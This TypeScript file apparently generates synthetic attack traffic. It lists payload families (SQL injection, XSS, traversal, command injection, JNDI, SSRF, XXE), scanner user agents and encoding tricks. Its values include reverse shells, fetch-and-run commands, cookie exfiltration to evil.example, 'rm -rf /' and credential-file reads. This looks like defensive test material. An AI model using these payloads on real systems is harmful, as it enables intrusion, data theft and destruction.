// Attack values of the well-known families and the encodings in which they arrive. Written here after public descriptions of the
// families; none is a captured payload. A family says where its values are sent.
import { utf8, type Values } from './traffic-values.ts';

export type Place = 'argument' | 'name' | 'cookie' | 'header' | 'path' | 'json' | 'file' | 'xml';

interface Family { readonly what: string; readonly places: readonly Place[]; readonly values: readonly string[] }

const everywhere: readonly Place[] = ['argument', 'argument', 'argument', 'argument', 'json', 'cookie', 'header', 'path', 'name', 'xml'];

export const families: readonly Family[] = [
  { what: 'sqli', places: everywhere, values: [
    "' OR '1'='1", "' or 1=1-- -", '1 OR 1=1', "admin'--", "admin' #", "' UNION SELECT NULL,NULL,NULL-- ",
      '-1 union all select 1,group_concat(table_name),3 from information_schema.tables',
    "1' AND SLEEP(5)-- ", "1' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(0x7e,version(),0x7e,FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- ",
      "1;DROP TABLE users", "'; EXEC xp_cmdshell('dir');--",
    "1' WAITFOR DELAY '0:0:5'--", "'||(SELECT pg_sleep(5))||'", "1 AND extractvalue(1,concat(0x7e,(select user())))",
      '1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)', "' and ascii(substring((select database()),1,1))>64#",
    "1/**/union/**/select/**/1,2,3", "1 UnIoN/*!50000SeLeCt*/1,2", "' or 'x' like 'x", "1) or (1=1", "') or ('a'='a", "1' order by 10--+", "' having 1=1--",
      "1 limit 1 into outfile '/tmp/x'", "'; insert into users values(1,'a');--",
    "1 and 1=2 union select username,password from users", "x' AND email IS NULL; --", "1' or '1'!='2", '1" or "1"="1', "' or 1 in (select @@version)--", "1'%23",
      "0x27", "'", '"', "1'", "\\'", "1 && 1=1", '1||1', "' xor 1=1", "1e0union select", "{`a`:1} union select 1" ] },
  { what: 'xss', places: everywhere, values: [
    '<script>alert(1)</script>', '"><script>alert(document.cookie)</script>', "'><img src=x onerror=alert(1)>", '<svg/onload=alert(1)>', '<body onload=alert(1)>',
      'javascript:alert(1)', '<iframe src="javascript:alert(1)">', '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '" onmouseover="alert(1)', "' onfocus=alert(1) autofocus='", '<img src=1 href=1 onerror="javascript:alert(1)"></img>', '<details open ontoggle=confirm(1)>',
      '<scr<script>ipt>alert(1)</scr</script>ipt>', '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
      '<style>@import "javascript:alert(1)";</style>', '<div style="width:expression(alert(1))">', '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
    '<input type="image" src="x" onerror="alert(1)">', 'eval(String.fromCharCode(97,108,101,114,116,40,49,41))', '<x onclick=alert(1)>click',
      '+ADw-script+AD4-alert(1)+ADw-/script+AD4-', '[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]]', '<b>bold</b>', '{{constructor.constructor("alert(1)")()}}',
      "';alert(1);//", '<link rel=stylesheet href=//evil.example/x.css>',
    'document.location="http://evil.example/?c="+document.cookie', '<marquee>hi</marquee>', '<!--<img src="--><img src=x onerror=alert(1)//">' ] },
  { what: 'lfi', places: ['argument', 'argument', 'path', 'cookie', 'json', 'file', 'header'], values: [
    '../../../../etc/passwd', '..\\..\\..\\windows\\win.ini', '/etc/passwd', '....//....//etc/passwd', '..%2f..%2f..%2fetc%2fpasswd', '..%252f..%252fetc%252fpasswd',
      '..%c0%af..%c0%afetc/passwd', '/proc/self/environ', 'file:///etc/passwd', '/var/log/apache2/access.log', 'C:\\boot.ini',
    '../../../../etc/passwd%00.jpg', '/WEB-INF/web.xml', '../.env', '.git/config', '/.aws/credentials', 'wp-config.php', '/etc/shadow', '~/.ssh/id_rsa', '.htaccess',
      'php://filter/convert.base64-encode/resource=index.php', 'expect://id', 'zip://shell.jpg#x.php', '/./././etc/hosts', '..;/manager/html' ] },
  { what: 'rfi', places: ['argument', 'argument', 'json', 'cookie'], values: ['http://evil.example/shell.txt?', 'https://198.51.100.7/c99.php', 'ftp://evil.example/x',
    '//evil.example/a', 'http://evil.example:8080/r57.txt%00', 'data:text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg==', 'http://[::ffff:127.0.0.1]/'] },
  { what: 'rce', places: everywhere, values: [
    '; cat /etc/passwd', '| id', '`whoami`', '$(curl http://evil.example/x|sh)', '&& ping -c 3 127.0.0.1', '; nc -e /bin/sh 198.51.100.7 4444', '|| ls -la',
      'a;wget http://evil.example/b -O /tmp/b;chmod +x /tmp/b', '() { :;}; /bin/bash -c "id"', '& dir c:\\', '| type C:\\Windows\\win.ini',
      'powershell -nop -w hidden -enc SQBFAFgA',
    ';uname -a', '\nid\n', "';system('id');'", '/bin/bash -i >& /dev/tcp/198.51.100.7/4444 0>&1', 'cmd.exe /c whoami', "c'a't /e'tc'/pa''sswd", 'cat${IFS}/etc/passwd',
      '/???/c?t /???/p??s??', '$(echo aWQ=|base64 -d|sh)', 'python -c "import os;os.system(\'id\')"', 'perl -e \'exec "/bin/sh"\'', 'sleep 10', '; rm -rf /',
      'busybox wget', '{cat,/etc/passwd}', '!ls', '%0aid', 'time', 'sudo -l' ] },
  { what: 'php', places: ['argument', 'argument', 'cookie', 'json', 'name', 'file'], values: ['<?php system($_GET["c"]); ?>', '<?= `id` ?>', 'phpinfo()',
    'eval(base64_decode("cGhwaW5mbygpOw=="));', 'assert($_POST[x])', 'O:8:"stdClass":1:{s:3:"cmd";s:2:"id";}', 'a:1:{i:0;O:4:"Evil":0:{}}', '${@print(md5(1))}',
    'allow_url_include=1', 'auto_prepend_file=php://input', 'preg_replace("/x/e","phpinfo()","x")', 'GLOBALS[x]=1', 'file_get_contents("/etc/passwd")',
    '_SERVER[argv]', 'create_function', 'shell.php.jpg', 'fopen(1)', 'call_user_func_array(array($a,"b"))'] },
  { what: 'java', places: everywhere, values: ['${jndi:ldap://evil.example/a}', '${${lower:j}ndi:${lower:l}dap://evil.example/x}',
    '${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/b}', '${env:AWS_SECRET_ACCESS_KEY}', 'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==',
    'class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bx%7Di',
    '%{(#_=\'multipart/form-data\').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}', 'T(java.lang.Runtime).getRuntime().exec("id")', 'java.lang.ProcessBuilder',
    '${script:javascript:java.lang.Runtime.getRuntime().exec("id")}', 'com.sun.rowset.JdbcRowSetImpl', 'new javax.script.ScriptEngineManager()'] },
  { what: 'ssrf', places: ['argument', 'argument', 'json', 'header'], values: ['http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'http://127.0.0.1:6379/', 'http://localhost/admin', 'gopher://127.0.0.1:25/_HELO', 'dict://127.0.0.1:11211/stats', 'http://0x7f000001/', 'http://2130706433/',
    'http://[::1]:80/', 'http://metadata.google.internal/computeMetadata/v1/', 'http://127.1/', 'netdoc:///etc/passwd', 'jar:http://evil.example!/x'] },
  { what: 'ssti', places: ['argument', 'argument', 'json', 'header', 'cookie'], values: ['{{7*7}}', '${7*7}', '<%= 7*7 %>', '#{7*7}', '{{config.items()}}',
    "{{''.__class__.__mro__[2].__subclasses__()}}", '*{T(java.lang.Runtime)}', '{{request|attr("application")}}', '@(1+2)', '{php}echo 1;{/php}', '${{<%[%\'"}}%\\'] },
  { what: 'nosql', places: ['argument', 'json', 'name'], values: ['{"$ne":null}', '{"$gt":""}', "'; return true; var x='", 'this.password.match(/.*/)', '[$ne]=1',
    '{"$where":"sleep(1000)"}', "a'; sleep(5000); 'b", 'db.users.find()', '__proto__[isAdmin]=true', 'constructor.prototype.x', '{"__proto__":{"a":1}}'] },
  { what: 'ldap', places: ['argument', 'json'], values: ['*)(uid=*))(|(uid=*', 'admin)(&)', '*)(objectClass=*', 'x)(|(cn=*))', '(&(a=b)(c=d))'] },
  { what: 'node', places: ['argument', 'json', 'cookie'], values: ["require('child_process').execSync('id')",
    "process.mainModule.require('fs').readFileSync('/etc/passwd')", '_$$ND_FUNC$$_function(){}()', 'global.process.exit()', 'new Function("return 1")()', 'while(1)',
    'console.log(1)', 'eval("1+1")'] },
  { what: 'splitting', places: ['argument', 'header', 'cookie', 'path'], values: ['a\r\nSet-Cookie: x=y', 'a%0d%0aLocation:%20http://evil.example', '\r\n\r\n<html>',
    'x\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK', 'GET /admin HTTP/1.1', 'a\r\nX-Forwarded-For: 127.0.0.1', '%0aSet-Cookie:a=b'] },
  { what: 'xxe', places: ['xml', 'argument'], values: ['<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    '<!ENTITY % p SYSTEM "http://evil.example/x.dtd">', '<xi:include href="file:///etc/passwd"/>', '<?xml version="1.0"?><!DOCTYPE r>'] },
  { what: 'odd', places: ['argument', 'name', 'path', 'header'], values: ['%00', 'a%', '%u0027', '\x00', 'A'.repeat(300), '..', '%ff%fe', '\xc0\xae', '\x80\x81',
    '%25', 'a&b=c;d', '..;/', '#', 'undefined', 'NaN', '[object Object]', '${', '0x1F', '1e309', '-1', '99999999999999999999', "''''", '))))', '%%%', '\x0b', '\t',
    '|||', ':::', '\\\\', '<<<', '=====', '~!@#$%^&*()_+', '_.-'] },
];

export const scanners = ['sqlmap/1.8#stable (https://sqlmap.org)', 'Nikto/2.5.0', 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
  'masscan/1.3', 'Nessus SOAP', 'WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)', 'gobuster/3.6', 'dirbuster', 'Acunetix',
  'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)', 'zgrab/0.x', 'nuclei - Open-source project (github.com/projectdiscovery/nuclei)', 'w3af.org',
  '() { :; }; echo', 'python-requests/2.6.0', 'libwww-perl/6.67', 'Jorgee', 'ZmEu', 'commix/3.9'];

/** One of a value's wrappings, as attackers and careless programs make them. */
export function wrapped(values: Values, text: string): string {
  const code = (c: string): number => c.charCodeAt(0);
  switch (values.below(14)) {
    case 0: return [...text].map((c) => (values.chance(50) ? c.toUpperCase() : c.toLowerCase())).join('');
    case 1: return text.replaceAll(' ', values.pick(['/**/', '\t', '\n', '+', '%20', '%0a', '%09', '\xa0', '\x0b']));
    case 2: return [...text].map((c) => `%${code(c).toString(16).padStart(2, '0')}`).join('');
    case 3: return [...text].map((c) => (values.chance(30) ? `%${code(c).toString(16).padStart(2, '0')}` : c)).join('');
    case 4: return [...text].map((c) => (/[\w ]/.test(c) ? c : `%u00${code(c).toString(16).padStart(2, '0')}`)).join('');
    case 5: return [...text].map((c) => (/[\w ]/.test(c) ? c : `&#${code(c)};`)).join('');
    case 6: return [...text].map((c) => (/[\w ]/.test(c) ? c : `\\u00${code(c).toString(16).padStart(2, '0')}`)).join('');
    case 7: return Buffer.from(text, 'latin1').toString('base64');
    case 8: return `${values.words(1 + values.below(3), 'en')} ${text} ${values.words(1, 'en')}`;
    case 9: return `${values.number()}${text}`;
    case 10: { const at = values.below(text.length + 1); return text.slice(0, at) + values.pick(['\x00', '\\', '/*x*/', '\'\'', '""', '\xad', utf8('＜'), utf8('’'),
      '%', '`', '^', '$@', ' ', '\r\n']) + text.slice(at); }
    default: return text;
  }
}
